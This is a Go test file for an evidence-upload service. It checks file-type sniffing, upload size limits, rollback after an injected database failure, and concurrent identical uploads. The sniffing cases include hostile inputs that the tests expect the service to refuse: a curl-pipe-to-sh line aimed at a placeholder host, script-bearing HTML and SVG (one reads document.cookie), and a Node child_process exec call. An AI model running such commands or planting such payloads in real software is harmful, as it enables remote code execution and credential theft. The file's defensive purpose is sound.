package evidence_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"gorm.io/gorm"

	"github.com/bukti-id/bukti/pkg/bukti"
	"github.com/bukti-id/bukti/pkg/evidence"
	"github.com/bukti-id/bukti/pkg/integrity"
	"github.com/bukti-id/bukti/pkg/sqlstore"
	"github.com/bukti-id/bukti/pkg/testenv"
	"github.com/bukti-id/bukti/storage"
)

// TestStageSniffing runs real fixtures through Stage: allowed formats are
// staged with the type the content sniffer detects, whatever the file name;
// everything else is refused with EUNSUPPORTED and nothing is left in the
// store.
func TestStageSniffing(t *testing.T) {
	const (
		docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
		xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	)
	cases := []struct {
		name     string
		fileName string
		data     []byte
		allowed  bool
		// detected is the sniffed type: Staged.ContentType when allowed,
		// the "detected …" part of the error when refused.
		detected string
	}{
		{"pdf", "sk.pdf", testenv.PDF("SK 440/012/PKM/2024"), true, "application/pdf"},
		{"png", "foto.png", testenv.PNG(1), true, "image/png"},
		{"jpeg", "foto.jpg", testenv.JPEG(2), true, "image/jpeg"},
		{"docx", "sop.docx", ooxml(t, "word/document.xml", docx+".main+xml"), true, docx},
		{"xlsx", "daftar-hadir.xlsx", ooxml(t, "xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), true, xlsx},
		{"odt", "notulen.odt", odt(t), true, "application/vnd.oasis.opendocument.text"},
		{"mp4", "kegiatan.mp4", mp4(), true, "video/mp4"},
		{"webp", "foto.webp", webp(), true, "image/webp"},
		{"pdf named .exe", "sk.exe", testenv.PDF("nama salah"), true, "application/pdf"},

		{"elf executable", "sk.pdf", testenv.Executable(t), false, "application/x-"},
		{"html", "laporan.pdf", []byte("<!DOCTYPE html><html><head><title>Laporan</title></head><body><script>alert(document.cookie)</script></body></html>"), false, "text/html"},
		{"svg", "foto.png", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><script>alert(1)</script></svg>`), false, "image/svg+xml"},
		{"plain zip", "arsip.docx", testenv.ZIP(), false, "application/zip"},
		{"shell script", "sop.doc", []byte("#!/bin/sh\ncurl http://contoh.invalid/x | sh\n"), false, "text/x-shellscript"},
		{"plain text", "sop.pdf", []byte("Daftar hadir rapat lokakarya mini, 3 Januari 2024.\n"), false, "text/plain"},
		{"windows pe", "sk.pdf", pe(), false, "application/vnd.microsoft.portable-executable"},
		{"javascript", "foto.jpg", []byte("function kirim() {\n  fetch('/api/v1/auth/me').then(r => r.text()).then(alert);\n}\nkirim();\n"), false, "text/plain"},
		{"node script", "sop.pdf", []byte("#!/usr/bin/env node\nrequire('child_process').exec('id');\n"), false, "text/javascript"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			svc, cfg := stageOnly(t, "filesystem", evidence.DefaultMaxBytes)
			ctx := context.Background()
			st, err := svc.Stage(ctx, tc.fileName, bytes.NewReader(tc.data))
			if tc.allowed {
				if err != nil {
					t.Fatalf("%s: Stage error got %v, want nil", tc.name, err)
				}
				if st.ContentType != tc.detected {
					t.Errorf("%s: ContentType got %q, want %q", tc.name, st.ContentType, tc.detected)
				}
				if st.Size != int64(len(tc.data)) || st.SHA256 != sum(tc.data) {
					t.Errorf("%s: size, sha256 got %d, %s, want %d, %s", tc.name, st.Size, st.SHA256, len(tc.data), sum(tc.data))
				}
				if st.FileName != tc.fileName {
					t.Errorf("%s: FileName got %q, want %q", tc.name, st.FileName, tc.fileName)
				}
				if n := testenv.StagedLeft(t, cfg); n != 1 {
					t.Errorf("%s: staged objects before Discard got %d, want 1", tc.name, n)
				}
				svc.Discard(ctx, st)
			} else {
				if c := bukti.ErrorCode(err); c != bukti.EUNSUPPORTED {
					t.Fatalf("%s: error code got %q (%v), want %q", tc.name, c, err, bukti.EUNSUPPORTED)
				}
				if st != nil {
					t.Errorf("%s: Staged got %+v, want nil", tc.name, st)
				}
				var be *bukti.Error
				errors.As(err, &be)
				if !strings.Contains(be.Text("en"), "(detected "+tc.detected) {
					t.Errorf("%s: message got %q, want it to name the detected type %q", tc.name, be.Text("en"), tc.detected)
				}
				if !strings.Contains(be.Text("id"), tc.fileName) || !strings.Contains(be.Text("id"), evidence.AllowedKinds) {
					t.Errorf("%s: message got %q, want the file name and the allowed kinds", tc.name, be.Text("id"))
				}
			}
			if n := testenv.StagedLeft(t, cfg); n != 0 {
				t.Errorf("%s: staged objects left got %d, want 0", tc.name, n)
			}
			if n := testenv.StoredBlobs(t, cfg); n != 0 {
				t.Errorf("%s: blobs got %d, want 0 (Stage must not commit)", tc.name, n)
			}
		})
	}
}

// countingReader counts what Stage reads.
type countingReader struct {
	r io.Reader
	n int64
}

func (c *countingReader) Read(p []byte) (int, error) {
	n, err := c.r.Read(p)
	c.n += int64(n)
	return n, err
}

// TestStageSizeLimit checks the upload limit at its edges, with limits below,
// equal to and above the 64 KiB sniff head, on both store backends.
func TestStageSizeLimit(t *testing.T) {
	t.Parallel()
	const head = 64 << 10
	cases := []struct {
		name     string
		max      int64
		size     int // -1: an endless stream
		wantCode string
	}{
		{"exactly the limit below the head", 1000, 1000, ""},
		{"one byte over the limit below the head", 1000, 1001, bukti.ETOOLARGE},
		{"larger than the head, limit below it", 1000, head + 4096, bukti.ETOOLARGE},
		{"exactly the limit equal to the head", head, head, ""},
		{"one byte over the limit equal to the head", head, head + 1, bukti.ETOOLARGE},
		{"exactly the limit above the head", 256 << 10, 256 << 10, ""},
		{"one byte over the limit above the head", 256 << 10, 256<<10 + 1, bukti.ETOOLARGE},
		{"far over the limit above the head", 256 << 10, 3 << 20, bukti.ETOOLARGE},
		{"endless stream is cut off", 256 << 10, -1, bukti.ETOOLARGE},
		{"one byte", 1000, 1, bukti.EUNSUPPORTED}, // too short to be anything allowed
		{"empty", 1000, 0, bukti.EINVALID},
	}
	for _, kind := range testenv.StoreKinds {
		t.Run(kind, func(t *testing.T) {
			t.Parallel()
			svc, cfg := stageOnly(t, kind, 0)
			for _, tc := range cases {
				t.Run(tc.name, func(t *testing.T) {
					svc.MaxBytes = tc.max
					ctx := context.Background()
					var src io.Reader
					var data []byte
					switch {
					case tc.size < 0:
						// Bounded so that a broken limit fails instead of hanging.
						src = io.LimitReader(newPDFStream(-1, 1), 1<<30)
					case tc.size == 1:
						data = []byte("%")
						src = bytes.NewReader(data)
					default:
						data = pdfOfSize(tc.size)
						src = bytes.NewReader(data)
					}
					cr := &countingReader{r: src}
					st, err := svc.Stage(ctx, "sk.pdf", cr)
					if c := bukti.ErrorCode(err); c != tc.wantCode {
						t.Fatalf("%s: error code got %q (%v), want %q", tc.name, c, err, tc.wantCode)
					}
					if tc.wantCode == "" {
						if st.Size != int64(tc.size) || st.SHA256 != sum(data) {
							t.Errorf("%s: size, sha256 got %d, %s, want %d, %s", tc.name, st.Size, st.SHA256, tc.size, sum(data))
						}
						svc.Discard(ctx, st)
					}
					if tc.wantCode == bukti.ETOOLARGE {
						var be *bukti.Error
						errors.As(err, &be)
						if !strings.Contains(be.Text("id"), "melebihi batas") {
							t.Errorf("%s: message got %q, want it to explain the limit", tc.name, be.Text("id"))
						}
						// The store reads at most one more buffer (one 32 MiB
						// part on S3) past the limit: a huge upload is not
						// read to its end.
						if limit := tc.max + 32<<20 + head; cr.n > limit {
							t.Errorf("%s: bytes read got %d, want at most %d", tc.name, cr.n, limit)
						}
					}
					if n := testenv.StagedLeft(t, cfg); n != 0 {
						t.Errorf("%s: staged objects left got %d, want 0", tc.name, n)
					}
					if n := testenv.StoredBlobs(t, cfg); n != 0 {
						t.Errorf("%s: blobs got %d, want 0", tc.name, n)
					}
				})
			}
		})
	}
}

// errInjected is the error the failRevisions callback adds.
var errInjected = errors.New("injected failure: insert into revisions refused")

// failRevisions registers a gorm callback on db that fails every insert into
// the revisions table while the returned switch is on. The blob is committed
// by then, so this is a database failure after the bytes are in the store.
func failRevisions(t *testing.T, db *gorm.DB) *atomic.Bool {
	t.Helper()
	var on atomic.Bool
	err := db.Callback().Create().Before("gorm:create").Register("bukti_test:fail_revisions", func(tx *gorm.DB) {
		if on.Load() && tx.Statement.Table == "revisions" {
			tx.AddError(errInjected)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	return &on
}

// TestFailureAfterCommit makes the database refuse the revision row after
// the blob was committed. The record must roll back as a whole (evidence,
// revision, audit row), nothing may stay staged, a blob other revisions use
// stays, and new content stays unreferenced until fsck --repair removes it
// past the grace period (never at once: an upload of the same bytes may be
// recording it).
func TestFailureAfterCommit(t *testing.T) {
	t.Parallel()
	fresh, shared := testenv.PDF("SK baru yang gagal dicatat"), testenv.PDF("SK yang sudah tersimpan")
	cases := []struct {
		name string
		// setup runs before the failure is switched on and returns the
		// evidence a revision is added to (0 for a new upload).
		setup    func(e *env) int64
		data     []byte
		wantBlob bool // the failed upload's blob is still stored afterwards
	}{
		{"new content", func(e *env) int64 { return 0 }, fresh, false},
		{"content already stored by an earlier upload", func(e *env) int64 {
			e.create(shared, evidence.Meta{}, "2.1.2/a/R2")
			return 0
		}, shared, true},
		{"content of a soft-deleted record", func(e *env) int64 {
			ev := e.create(shared, evidence.Meta{}, "2.1.2/a/R2")[0]
			if err := e.svc.Delete(context.Background(), ev.ID, user); err != nil {
				e.t.Fatal(err)
			}
			return 0
		}, shared, true},
		{"revision with new content", func(e *env) int64 {
			return e.create(testenv.PDF("SK rev 0"), evidence.Meta{}, "2.1.2/a/R1")[0].ID
		}, fresh, false},
		{"revision repeating the current content", func(e *env) int64 {
			return e.create(shared, evidence.Meta{}, "2.1.2/a/R1")[0].ID
		}, shared, true},
	}
	for _, combo := range testenv.Combos {
		t.Run(testenv.Name(combo.DB, combo.Store), func(t *testing.T) {
			t.Parallel()
			for _, tc := range cases {
				t.Run(tc.name, func(t *testing.T) {
					t.Parallel()
					e := newEnv(t, combo.DB, combo.Store)
					fail := failRevisions(t, e.db)
					ctx := context.Background()
					target := tc.setup(e)
					before := e.state()
					if target != 0 {
						e.setReview(target, bukti.ReviewRejected)
					}

					fail.Store(true)
					var err error
					if target == 0 {
						var evs []bukti.Evidence
						evs, err = e.svc.Create(ctx, evidence.Upload{FacilityID: e.facility, Requirements: []string{"2.1.2/a/R1", "2.1.2/a/D1"}, By: user}, e.stage("sk.pdf", tc.data))
						if evs != nil {
							t.Errorf("%s: evidence got %+v, want nil", tc.name, evs)
						}
					} else {
						var ev *bukti.Evidence
						ev, err = e.svc.AddRevision(ctx, target, user, e.stage("sk-rev1.pdf", tc.data))
						if ev != nil {
							t.Errorf("%s: evidence got %+v, want nil", tc.name, ev)
						}
					}
					fail.Store(false)

					if !errors.Is(err, errInjected) || code(err) != bukti.EINTERNAL {
						t.Fatalf("%s: error got %v (code %q), want the injected failure (code %q)", tc.name, err, code(err), bukti.EINTERNAL)
					}
					after := e.state()
					if after.evidence != before.evidence || after.revisions != before.revisions || after.audits != before.audits {
						t.Errorf("%s: evidence, revisions, audit rows got %d, %d, %d, want %d, %d, %d (unchanged)",
							tc.name, after.evidence, after.revisions, after.audits, before.evidence, before.revisions, before.audits)
					}
					if after.staged != 0 {
						t.Errorf("%s: staged objects left got %d, want 0", tc.name, after.staged)
					}
					size, err := e.blobSize(tc.data)
					switch {
					case tc.wantBlob && err != nil:
						t.Errorf("%s: shared blob Size got error %v, want %d bytes (a failed record must not remove a blob others use)", tc.name, err, len(tc.data))
					case tc.wantBlob && size != int64(len(tc.data)):
						t.Errorf("%s: shared blob size got %d, want %d", tc.name, size, len(tc.data))
					case !tc.wantBlob:
						rep, cerr := integrity.Check(ctx, sqlstore.New(e.db, nil), e.store, integrity.Options{Now: func() time.Time { return time.Now().Add(25 * time.Hour) }, Repair: true})
						key, _ := storage.Key(sum(tc.data))
						if cerr != nil || err != nil || len(rep.Problems) != 1 || rep.Problems[0].Kind != integrity.Orphan || rep.Problems[0].Key != key || !rep.Problems[0].Removed {
							t.Errorf("%s: new blob: size %d, %v; fsck a day later %+v, %v; want the unreferenced blob there, then found and removed as an orphan", tc.name, size, err, rep.Problems, cerr)
						}
					}
					if after := e.state(); after.blobs != before.blobs {
						t.Errorf("%s: blobs got %d, want %d", tc.name, after.blobs, before.blobs)
					}
					if target != 0 {
						ev, err := e.svc.Get(ctx, target)
						if err != nil {
							t.Fatal(err)
						}
						if len(ev.Revisions) != 1 || ev.Review != bukti.ReviewRejected {
							t.Errorf("%s: revisions, review got %d, %q, want 1, %q (unchanged)", tc.name, len(ev.Revisions), ev.Review, bukti.ReviewRejected)
						}
					}

					// The service still works once the database does.
					again := e.create(tc.data, evidence.Meta{}, "2.1.2/a/R3")
					if size, err := e.blobSize(tc.data); err != nil || size != int64(len(tc.data)) {
						t.Errorf("%s: blob after a later successful upload got (%d, %v), want %d", tc.name, size, err, len(tc.data))
					}
					if again[0].Revisions[0].SHA256 != sum(tc.data) {
						t.Errorf("%s: later upload sha256 got %s, want %s", tc.name, again[0].Revisions[0].SHA256, sum(tc.data))
					}
				})
			}
		})
	}
}

// TestConcurrentSameContent uploads the same bytes to eight requirements at
// once: every upload succeeds, the store holds one blob, and there are eight
// evidence records, revisions and audit rows.
func TestConcurrentSameContent(t *testing.T) {
	t.Parallel()
	reqs := []string{"2.1.2/a/R1", "2.1.2/a/R2", "2.1.2/a/R3", "2.1.2/a/D1", "2.1.2/a/D2", "2.1.2/b/D2", "2.1.2/c/D1", "2.1.2/c/D2"}
	data := testenv.PDF("RPK 2024 dipakai di delapan persyaratan")
	for _, combo := range testenv.Combos {
		t.Run(testenv.Name(combo.DB, combo.Store), func(t *testing.T) {
			t.Parallel()
			e := newEnv(t, combo.DB, combo.Store)
			ctx := context.Background()
			start := make(chan struct{})
			errs := make([]error, len(reqs))
			got := make([][]bukti.Evidence, len(reqs))
			var wg sync.WaitGroup
			for i, req := range reqs {
				wg.Go(func() {
					<-start
					st, err := e.svc.Stage(ctx, fmt.Sprintf("rpk-%d.pdf", i), bytes.NewReader(data))
					if err != nil {
						errs[i] = err
						return
					}
					got[i], errs[i] = e.svc.Create(ctx, evidence.Upload{FacilityID: e.facility, Requirements: []string{req}, By: user}, st)
				})
			}
			close(start)
			wg.Wait()

			for i, err := range errs {
				if err != nil {
					t.Errorf("upload %d (%s): error got %v, want nil", i, reqs[i], err)
					continue
				}
				if len(got[i]) != 1 || got[i][0].RequirementID != reqs[i] || got[i][0].Revisions[0].SHA256 != sum(data) {
					t.Errorf("upload %d: evidence got %+v, want one record for %s with sha256 %s", i, got[i], reqs[i], sum(data))
				}
			}
			s := e.state()
			want := state{evidence: 8, revisions: 8, audits: 8, blobs: 1, staged: 0}
			if s != want {
				t.Errorf("state: got %+v, want %+v", s, want)
			}
			if size, err := e.blobSize(data); err != nil || size != int64(len(data)) {
				t.Errorf("blob: size got (%d, %v), want %d", size, err, len(data))
			}
			list, err := e.svc.List(ctx, e.facility, evidence.Filter{})
			if err != nil {
				t.Fatal(err)
			}
			if len(list) != 8 {
				t.Errorf("List: records got %d, want 8", len(list))
			}
		})
	}
}
